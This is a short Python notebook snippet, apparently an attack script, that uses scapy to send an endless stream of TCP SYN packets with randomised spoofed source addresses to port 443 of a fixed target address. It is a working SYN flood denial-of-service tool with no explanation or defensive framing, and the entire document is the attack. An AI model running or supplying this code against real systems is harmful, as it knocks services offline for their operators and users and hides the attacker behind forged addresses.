!pip install -q scapy

from scapy.all import IP, TCP, RandIP, RandShort, send

target = "198.51.100.140"
pkt = IP(src=RandIP(), dst=target) / TCP(sport=RandShort(), dport=443, flags="S")
send(pkt, loop=1, verbose=0)
